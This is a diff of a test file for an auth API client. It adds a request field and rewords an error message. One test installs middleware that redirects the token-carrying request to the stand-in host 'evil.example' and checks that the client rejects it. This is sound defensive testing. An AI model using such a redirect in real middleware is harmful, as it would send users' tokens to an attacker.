@@ -27,6 +27,7 @@ test('auth.api: sends what the spec says, over the fetch of the client', async (
         body: null,
         signal: expect.any(AbortSignal),
         redirect: 'manual',
+        isRepeatable: true,
       },
     },
   ])
@@ -242,7 +243,7 @@ test('auth.api: middleware cannot send the token to another address', async () =
   api.use({ onRequest: ({ request }) => new Request('https://evil.example/', request) })
   await expect(api.GET(introspect)).rejects.toMatchObject({
     code: 'configuration',
-    message: 'url was changed by middleware to another address than that of the service',
+    message: 'url must stay an address of the service',
   })
 })
 
